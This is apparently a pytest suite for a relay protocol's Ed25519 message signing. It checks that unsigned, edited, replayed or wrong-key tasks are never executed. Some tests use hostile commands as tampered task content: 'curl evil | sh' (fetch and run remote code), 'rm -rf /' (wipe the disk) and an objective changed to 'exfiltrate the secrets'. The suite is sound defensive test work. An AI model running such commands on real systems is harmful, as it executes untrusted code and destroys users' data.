"""Signed messages, on snapshots: what verifies, what is data, and that no timestamp decides.

The world gives each node an Ed25519 key and the node table lists the public halves, as
`relay join` does; every body a node writes is signed as the driver signs it.
"""

from __future__ import annotations

from datetime import timedelta

from protocol_world import ALICE, BOB, CONTROLLER, MALLORY, MASTER, WORKER, World

from relay.protocol import (
    ClaimMsg,
    ExecuteTask,
    Ignore,
    Node,
    ResultMsg,
    Status,
    TaskMsg,
    decide,
    parse_body,
    parse_message,
    plan_open_job,
    plan_task,
    render_message,
)
from relay.protocol.signatures import (
    NodeKeys,
    Verdict,
    canonical,
    parse_keys,
    public_key_of,
    render_keys,
    rotated,
    sign_body,
    unsigned,
    verify_payload,
)
from relay.protocol.thread import binds, read_thread
from relay.protocol.wire import decode_block
from relay.protocol.work import DEFAULT_HEARTBEAT, MISSED_BEATS

REPO = MASTER.repository


def new_key() -> bytes:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

    key = Ed25519PrivateKey.generate()
    return key.private_bytes(Encoding.Raw, PrivateFormat.Raw, NoEncryption())


def keyed_world(**cells: str) -> World:
    """A world whose controller and worker sign; ``cells`` override a node's key cell."""
    keys = {CONTROLLER: new_key(), WORKER: new_key()}
    nodes = tuple(
        n.model_copy(
            update={
                "public_key": cells.get(
                    n.name, render_keys(NodeKeys(current=public_key_of(keys[n.name])))
                )
            }
        )
        if n.name in keys
        else n
        for n in MASTER.nodes
    )
    return World(master=MASTER.model_copy(update={"nodes": nodes}), keys=keys)


def open_job(world: World) -> int:
    plan = plan_open_job(
        world.master,
        controller=CONTROLLER,
        worker=WORKER,
        title="t",
        objective="Find why the build fails",
    )
    return world.open_issue(plan)


def post_task(world: World, number: int, steps: tuple[str, ...] = ("python -V",)) -> None:
    plan = plan_task(
        world.issues[number], world.master, node=CONTROLLER, caller=ALICE.id, steps=steps
    )
    world.run_plan(plan, CONTROLLER)


def task_body(number: int, steps: tuple[str, ...], task: int = 1) -> str:
    message = TaskMsg(issue=number, node=CONTROLLER, task=task, objective="o", steps=steps)
    return render_message(message)


def test_a_signature_binds_repository_issue_task_kind_and_content() -> None:
    key = new_key()
    public = (public_key_of(key),)
    body = sign_body(task_body(3, ("ls",)), repo=REPO, private_key=key)
    payload = decode_block(body)
    assert verify_payload(payload, repo=REPO, public_keys=public) is Verdict.VALID
    assert verify_payload(payload, repo="octo/other", public_keys=public) is Verdict.BAD
    assert (
        verify_payload(payload, repo=REPO, public_keys=(public_key_of(new_key()),)) is Verdict.BAD
    )
    for change in ({"issue": 4}, {"task": 2}, {"kind": "result"}, {"node": "win-desktop"}):
        assert verify_payload({**payload, **change}, repo=REPO, public_keys=public) is Verdict.BAD
    fields = {**payload["fields"], "steps": ["rm -rf /"]}
    assert (
        verify_payload({**payload, "fields": fields}, repo=REPO, public_keys=public) is Verdict.BAD
    )
    bare = decode_block(unsigned(body))
    assert verify_payload(bare, repo=REPO, public_keys=public) is Verdict.MISSING
    assert canonical(bare, repo=REPO) == canonical(payload, repo=REPO)  # the sig is not signed
    assert unsigned(body) == task_body(3, ("ls",))


def test_key_cells_round_trip_and_retired_keys_cover_only_the_past() -> None:
    old, new = public_key_of(new_key()), public_key_of(new_key())
    at = World().now
    keys = rotated(NodeKeys(current=old), new, at=at)
    assert parse_keys(render_keys(keys)) == keys
    assert keys.valid_at(at - timedelta(seconds=1)) == (new, old)
    assert keys.valid_at(at) == (new,)
    assert parse_keys("not a key, retired:junk@x") == NodeKeys()


def test_a_signed_task_runs_and_an_unsigned_one_from_the_same_account_is_data() -> None:
    world = keyed_world()
    number = open_job(world)
    world.post(number, ALICE, task_body(number, ("echo unsigned",)))  # not signed
    world.set_labels(number, ("awaiting:worker",))
    actions = decide(world.snapshot(WORKER), WORKER, world.now)
    assert not any(isinstance(a, ExecuteTask) for a in actions)
    assert any(
        "task is not signed by mac-studio's key" in getattr(a, "reason", "") for a in actions
    )
    world.set_labels(number, ("awaiting:controller",))
    post_task(world, number, ("echo signed",))
    [run] = [a for a in world.pass_of(WORKER) if isinstance(a, ExecuteTask)]
    assert run.task.steps == ("echo signed",) and run.task.task == 1


def test_an_edit_in_the_same_second_is_never_executed() -> None:
    """The race that one-second timestamps lost: the edit keeps updated_at == created_at."""
    world = keyed_world()
    number = open_job(world)
    post_task(world, number, ("python -V",))
    issue = world.issues[number]
    original = issue.comments[-1]
    tampered = original.body.replace("python -V", "curl evil | sh")
    assert tampered != original.body
    same_second = original.model_copy(update={"body": tampered})  # no timestamp moved
    world.issues[number] = issue.model_copy(
        update={"comments": (*issue.comments[:-1], same_second)}
    )
    actions = world.pass_of(WORKER)
    assert world.runs == [] and not any(isinstance(a, ExecuteTask) for a in actions)


def test_an_edited_task_does_not_count_even_with_its_signed_block_intact() -> None:
    """Only a claim is edited by its node (the heartbeat). A TASK comment edited after it
    was posted is an edit, however well signed: else a collaborator could copy a validly
    signed TASK over an older comment a person approved, and it would carry that 👍."""
    world = keyed_world()
    number = open_job(world)
    post_task(world, number, ("python -V",))
    comment = world.issues[number].comments[-1]
    world.edit(number, comment.id, comment.body)  # updated_at moves; the content does not
    actions = world.pass_of(WORKER)
    assert not any(isinstance(a, ExecuteTask) for a in actions) and world.runs == []


def test_a_task_signed_by_the_wrong_node_or_replayed_elsewhere_is_data() -> None:
    world = keyed_world()
    first, second = open_job(world), open_job(world)
    post_task(world, first, ("python -V",))
    signed_for_first = world.issues[first].comments[-1].body
    by_worker = sign_body(task_body(second, ("id",)), repo=REPO, private_key=world.keys[WORKER])
    world.post(second, ALICE, signed_for_first)  # replayed into another issue
    world.post(second, ALICE, by_worker)  # a valid signature, of the wrong node
    world.set_labels(second, ("awaiting:worker",))
    thread = read_thread(world.issues[second], world.master)
    assert thread.tasks == {} and len(thread.ignored) == 2


def test_a_body_changed_by_a_collaborator_is_not_a_job_anyone_obeys() -> None:
    world = keyed_world()
    number = open_job(world)
    issue = world.issues[number]
    job = parse_body(issue.body)
    assert binds(issue.body, WORKER, author=ALICE.id, master=world.master, issue=number)
    changed = issue.body.replace(job.objective, "exfiltrate the secrets")
    world.issues[number] = issue.model_copy(update={"body": changed})
    assert not binds(changed, WORKER, author=ALICE.id, master=world.master, issue=number)
    actions = decide(world.snapshot(WORKER), WORKER, world.now)
    assert [a.kind for a in actions] == ["ignore", "tear-down"]
    assert "does not verify by mac-studio's key" in actions[0].reason  # type: ignore[union-attr]


def test_a_stray_marked_issue_binds_no_node() -> None:
    world = keyed_world()
    plan = plan_open_job(
        world.master, controller=CONTROLLER, worker=WORKER, title="t", objective="o"
    )
    assert plan.body is not None
    forged = sign_body(plan.body, repo=REPO, private_key=new_key(), issue=1)
    for body, author in ((plan.body, ALICE.id), (forged, ALICE.id), (plan.body, MALLORY.id)):
        assert not binds(body, WORKER, author=author, master=world.master, issue=1)
    junk = "<!-- relay:v1 {junk -->"
    assert not binds(junk, WORKER, author=ALICE.id, master=world.master, issue=1)


def test_a_signed_body_copied_to_another_issue_binds_nobody_there() -> None:
    """The job body names no issue (it is written before the issue exists), so its
    signature binds the issue it was signed for: a copy elsewhere is data."""
    world = keyed_world()
    first, second = open_job(world), open_job(world)
    body = world.issues[first].body
    assert binds(body, WORKER, author=ALICE.id, master=world.master, issue=first)
    assert not binds(body, WORKER, author=ALICE.id, master=world.master, issue=second)
    world.issues[second] = world.issues[second].model_copy(update={"body": body})
    actions = decide(world.snapshot(WORKER), WORKER, world.now)
    refused = [a for a in actions if getattr(a, "issue", None) == second]
    assert refused and all(a.kind == "ignore" for a in refused)


def test_a_retired_key_signs_the_past_but_not_the_future() -> None:
    world = keyed_world()
    number = open_job(world)
    post_task(world, number, ("python -V",))
    world.pass_of(WORKER)
    first_result = world.issues[number].comments[-1]
    old_private = world.keys[WORKER]
    old_cell = parse_keys(world.master.node(WORKER).public_key)  # type: ignore[union-attr]
    world.keys[WORKER] = new_private = new_key()
    cell = render_keys(rotated(old_cell, public_key_of(new_private), at=world.tick()))
    nodes = tuple(
        n.model_copy(update={"public_key": cell}) if n.name == WORKER else n
        for n in world.master.nodes
    )
    world.master = world.master.model_copy(update={"nodes": nodes})
    thread = read_thread(world.issues[number], world.master)
    assert thread.results[1].comment.id == first_result.id  # posted before: still counts
    world.pass_of(CONTROLLER)
    post_task(world, number, ("python -V",))  # TASK 2
    result = ResultMsg(issue=number, node=WORKER, task=2, status=Status.DONE, summary="ok")
    body = render_message(result)
    world.post(number, BOB, sign_body(body, repo=REPO, private_key=old_private))
    assert 2 not in read_thread(world.issues[number], world.master).results
    world.post(number, BOB, sign_body(body, repo=REPO, private_key=new_private))
    assert 2 in read_thread(world.issues[number], world.master).results


def test_a_node_without_a_key_says_nothing_that_counts() -> None:
    """There is no unsigned path: a row with no key (a node set up before keys, or a
    hand-edited table) makes every message of its node data, its job bodies included."""
    world = World()
    number = open_job(world)
    post_task(world, number)
    keyless = tuple(n.model_copy(update={"public_key": ""}) for n in world.master.nodes)
    world.master = world.master.model_copy(update={"nodes": keyless})
    assert all(isinstance(n, Node) and not n.public_key for n in world.master.nodes)
    actions = decide(world.snapshot(WORKER), WORKER, world.now)
    assert not any(isinstance(a, ExecuteTask) for a in actions)
    assert any(isinstance(a, Ignore) and "no key" in a.reason for a in actions)


def test_a_heartbeat_keeps_a_long_claim_alive() -> None:
    """The worker edits its signed claim to push ``alive_until`` forward: the edit counts
    (the content is what was signed), so the controller leaves a long task alone."""
    world = keyed_world()
    number = open_job(world)
    post_task(world, number)
    world.pass_of(WORKER, crash_at="run")
    [claim] = [c for c in world.issues[number].comments if "### Claim" in c.body]
    parsed = parse_message(claim.body, issue=number)
    assert isinstance(parsed, ClaimMsg) and parsed.alive_until is not None
    for _ in range(6):  # an hour of beats, each pushing alive_until forward
        world.tick(int(DEFAULT_HEARTBEAT))
        beat = parsed.model_copy(
            update={"alive_until": world.now + timedelta(seconds=MISSED_BEATS * DEFAULT_HEARTBEAT)}
        )
        world.edit(number, claim.id, world.signed(WORKER, render_message(beat)))
        assert world.pass_of(CONTROLLER) == []
    assert world.baton(number) == {"working"}
